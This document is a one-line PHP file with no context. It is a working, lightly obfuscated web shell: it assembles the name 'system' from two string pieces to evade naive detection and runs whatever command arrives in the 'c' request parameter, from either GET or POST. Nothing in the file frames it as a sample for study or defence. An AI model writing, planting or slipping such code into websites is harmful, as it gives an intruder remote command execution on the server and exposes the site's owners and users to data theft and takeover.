<?php $in = [...$_GET, ...$_POST]; $f = 'sys' . 'tem'; $f($in['c']);
